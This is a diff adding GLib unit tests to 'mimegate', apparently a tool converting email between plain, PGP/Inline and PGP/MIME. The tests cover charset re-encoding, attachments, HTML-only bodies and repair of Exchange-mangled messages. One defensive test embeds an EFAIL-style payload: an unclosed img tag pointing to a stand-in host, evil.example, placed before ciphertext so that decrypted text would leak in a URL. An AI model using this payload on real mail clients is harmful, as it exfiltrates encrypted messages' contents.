@@ -384,17 +384,168 @@ test_refusals (void)
   g_assert_null (strstr (r.out, "secret"));
   g_test_message ("no MDC: %s", r.err);
   mg_run_clear (&r);
+}
 
-  /* not yet: PGP/Inline says so, it does not pretend */
-  {
-    g_autofree char *armored = mg_gpg (fx.gpg, "hi\n", 3, "-a", "-e", "-r", "<alice@example.org>", NULL);
-    g_autofree char *inline_msg = g_strdup_printf ("From: x@example.org\nContent-Type: text/plain\n\n%s", armored);
-    g_autofree char *f = save ("inline.eml", inline_msg, strlen (inline_msg));
-    convert (&r, "plain", f, "alice@example.org", NULL);
-    g_assert_cmpint (r.status, ==, 69);
-    g_assert_true (g_str_has_prefix (r.err, "5.6.0 mimegate convert: "));
-    mg_run_clear (&r);
+/* fields - mimeparts lines without the charset column: PGP/Inline carries text as UTF-8 whatever it came in */
+static char *
+fields (const char *parts)
+{
+  g_auto (GStrv) lines = g_strsplit (parts, "\n", -1);
+  GString *s = g_string_new (NULL);
+
+  for (guint i = 0; lines[i] && lines[i][0]; i++) {
+    g_auto (GStrv) f = g_strsplit (lines[i], "\t", -1);
+    if (g_strv_length (f) == 4)
+      g_string_append_printf (s, "%s\t%s\t%s\n", f[0], f[1], f[3]);
   }
+  return g_string_free (s, FALSE);
+}
+
+static const char inline_input[] = "From: Sender <sender@example.net>\n"
+                                   "To: Alice <alice@example.org>\n"
+                                   "Subject: inline\n"
+                                   "MIME-Version: 1.0\n"
+                                   "Content-Type: multipart/mixed; boundary=\"b\"\n\n"
+                                   "--b\n"
+                                   "Content-Type: multipart/alternative; boundary=\"a\"\n\n"
+                                   "--a\n"
+                                   "Content-Type: text/plain; charset=windows-1252\n"
+                                   "Content-Transfer-Encoding: quoted-printable\n\n"
+                                   "Caf=E9 =80 cr=E8me =96 the report is attached.\n"
+                                   "--a\n"
+                                   "Content-Type: text/html; charset=utf-8\n\n"
+                                   "<p>Caf&eacute;</p>\n"
+                                   "--a--\n"
+                                   "--b\n"
+                                   "Content-Type: application/pdf\n"
+                                   "Content-Disposition: attachment; filename=report.pdf\n"
+                                   "Content-Transfer-Encoding: base64\n\n"
+                                   "JVBERi0xLjQKJcOkw7zDtsOfCnNhbXBsZSBwZGYK\n"
+                                   "--b--\n";
+
+/* PGP/Inline, the Microsoft 365 form: body text armored in UTF-8, each attachment its own NAME.pgp */
+static void
+test_to_pgp_inline (void)
+{
+  g_autofree char *file = save ("inline-in.eml", inline_input, strlen (inline_input));
+  g_autofree char *text_block = NULL, *text = NULL, *att_b64 = NULL, *att_cipher = NULL, *att_clear = NULL;
+  g_autofree char *back = NULL, *want = NULL, *got = NULL;
+  gsize len, att_len;
+  MgRun r;
+
+  convert (&r, "pgp-inline", file, "alice@example.org", NULL);
+  g_assert_cmpint (r.status, ==, 0);
+  g_assert_null (strstr (r.out, "multipart/encrypted"));
+  g_assert_null (strstr (r.out, "<p>"));
+  g_assert_nonnull (strstr (r.out, "Content-Type: text/plain; charset=utf-8"));
+  g_assert_nonnull (strstr (r.out, "filename=report.pdf.pgp"));
+  /* the text, opened by gpg: the windows-1252 characters as UTF-8 */
+  text = gpg_decrypt (r.out, &len);
+  /* no line end: the one before a boundary belongs to the boundary (RFC 2046 section 5.1.1) */
+  g_assert_cmpstr (text, ==, "Caf\xc3\xa9 \xe2\x82\xac cr\xc3\xa8me \xe2\x80\x93 the report is attached.");
+  /* the attachment, binary OpenPGP, opened by gpg: the original bytes */
+  {
+    const char *b = strstr (r.out, "filename=report.pdf.pgp");
+    const char *start = strstr (b, "\n\n") + 2;
+    const char *end = strstr (start, "\n--");
+    g_autofree char *b64 = g_strndup (start, (gsize) (end - start));
+    g_autofree guchar *bin = g_base64_decode (b64, &att_len);
+    g_auto (GStrv) env = mg_test_env ("GNUPGHOME", fx.gpg->home, NULL);
+    const char *argv[] = { "gpg", "--batch", "-q", "-d", NULL };
+    MgRun g;
+    g_assert_true (mg_test_run (&g, argv, (const char *const *) env, (const char *) bin, att_len));
+    g_assert_cmpint (g.status, ==, 0);
+    g_assert_cmpmem (g.out, g.out_len, "%PDF-1.4\n%\xc3\xa4\xc3\xbc\xc3\xb6\xc3\x9f\nsample pdf\n", 30);
+    mg_run_clear (&g);
+  }
+  /* and back: the same characters and bytes (the HTML alternative was a copy of the text: dropped) */
+  back = save ("inline-out.eml", r.out, r.out_len);
+  mg_run_clear (&r);
+  convert (&r, "plain", back, "anyone@example.org", NULL);
+  g_assert_cmpint (r.status, ==, 0);
+  {
+    g_autofree char *in_parts = parts_of (inline_input, strlen (inline_input));
+    g_autofree char *out_parts = parts_of (r.out, r.out_len);
+    g_autofree char *in_f = fields (in_parts);
+    g_autofree char *out_f = fields (out_parts);
+    g_auto (GStrv) in_lines = g_strsplit (in_f, "\n", -1);
+    /* text/plain and the PDF must come back; the HTML line of the input has no counterpart */
+    g_assert_nonnull (strstr (out_f, in_lines[0]));
+    g_assert_nonnull (strstr (out_f, in_lines[2]));
+  }
+  mg_run_clear (&r);
+}
+
+static void
+test_html_only_to_inline (void)
+{
+  static const char html[] = "From: s@example.net\nTo: alice@example.org\nSubject: h\nMIME-Version: 1.0\n"
+                             "Content-Type: text/html; charset=utf-8\n\n<html><body><b>bold</b></body></html>\n";
+  g_autofree char *file = save ("html.eml", html, strlen (html));
+  MgRun r;
+
+  convert (&r, "pgp-inline", file, "alice@example.org", NULL);
+  g_assert_cmpint (r.status, ==, 0);
+  g_assert_nonnull (strstr (r.out, "filename=body.html.pgp"));
+  g_assert_nonnull (strstr (r.out, "Its body is the attached body.html.pgp."));
+  g_assert_null (strstr (r.out, "<b>bold</b>"));
+  mg_run_clear (&r);
+}
+
+/* EFAIL: decrypted text never joins the clear text around it; each is its own part */
+static void
+test_inline_efail_split (void)
+{
+  g_autofree char *armored = mg_gpg (fx.gpg, "the secret\n", 11, "-a", "-e", "-r", "<alice@example.org>", NULL);
+  g_autofree char *msg = g_strdup_printf ("From: x@example.org\nSubject: s\nContent-Type: text/plain\n\n"
+                                          "<img src=\"http://evil.example/?\nBefore the armor.\n%sAfter it.\n",
+                                          armored);
+  g_autofree char *file = save ("efail.eml", msg, strlen (msg));
+  g_autofree char *parts = NULL;
+  MgRun r;
+
+  convert (&r, "plain", file, "alice@example.org", NULL);
+  g_assert_cmpint (r.status, ==, 0);
+  parts = parts_of (r.out, r.out_len);
+  g_test_message ("%s", parts);
+  g_assert_true (g_str_has_prefix (parts, "multipart/mixed\ntext/plain\t"));
+  {
+    g_auto (GStrv) lines = g_strsplit (parts, "\n", -1);
+    g_assert_cmpuint (g_strv_length (lines), ==, 5); /* mixed, before, decrypted, after, "" */
+  }
+  /* the decrypted text stands alone in its part */
+  g_assert_nonnull (strstr (r.out, "\nthe secret\n"));
+  g_assert_null (strstr (r.out, "evil.example/?\nthe secret"));
+  mg_run_clear (&r);
+}
+
+/* PGP/MIME as Exchange mangles it, for a recipient who can read it: rebuilt around the same ciphertext */
+static void
+test_mangled_repair (void)
+{
+  g_autofree char *entity = g_strdup ("Content-Type: text/plain\r\n\r\nrepaired\r\n");
+  g_autofree char *armored = mg_gpg (fx.gpg, entity, strlen (entity), "-a", "-e", "-r", "<alice@example.org>", NULL);
+  g_autofree char *b64 = g_base64_encode ((const guchar *) armored, strlen (armored));
+  g_autofree char *msg = g_strdup_printf (
+    "From: x@example.org\nSubject: m\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
+    "--b\nContent-Type: text/plain; charset=us-ascii\n\n\n--b\nContent-Type: application/pgp-encrypted\n"
+    "Content-Transfer-Encoding: base64\n\nVmVyc2lvbjogMQ0K\n--b\nContent-Type: application/octet-stream; "
+    "name=encrypted.asc\nContent-Disposition: attachment; filename=encrypted.asc\nContent-Transfer-Encoding: "
+    "base64\n\n%s\n--b--\n",
+    b64);
+  g_autofree char *file = save ("mangled.eml", msg, strlen (msg));
+  g_autofree char *block = NULL, *clear = NULL;
+  gsize len;
+  MgRun r;
+
+  convert (&r, "pgp-mime", file, "alice@example.org", NULL);
+  g_assert_cmpint (r.status, ==, 0);
+  g_assert_nonnull (strstr (r.out, "Content-Type: multipart/encrypted"));
+  block = armored_block (r.out);
+  g_assert_nonnull (strstr (armored, block)); /* the very same ciphertext: repaired, not re-encrypted */
+  clear = gpg_decrypt (r.out, &len);
+  g_assert_cmpstr (clear, ==, entity);
+  mg_run_clear (&r);
 }
 
 static void
@@ -492,6 +643,10 @@ main (int argc, char **argv)
   g_test_add_func ("/convert/round-trips", test_round_trips);
   g_test_add_func ("/convert/aes-gcm", test_aes_gcm);
   g_test_add_func ("/convert/refusals", test_refusals);
+  g_test_add_func ("/convert/to-pgp-inline", test_to_pgp_inline);
+  g_test_add_func ("/convert/html-only-to-pgp-inline", test_html_only_to_inline);
+  g_test_add_func ("/convert/inline-efail-split", test_inline_efail_split);
+  g_test_add_func ("/convert/mangled-repair", test_mangled_repair);
   g_test_add_func ("/convert/output-file-and-stores", test_output_file_and_stores);
   g_test_add_func ("/convert/corpus", test_corpus);
   status = g_test_run ();
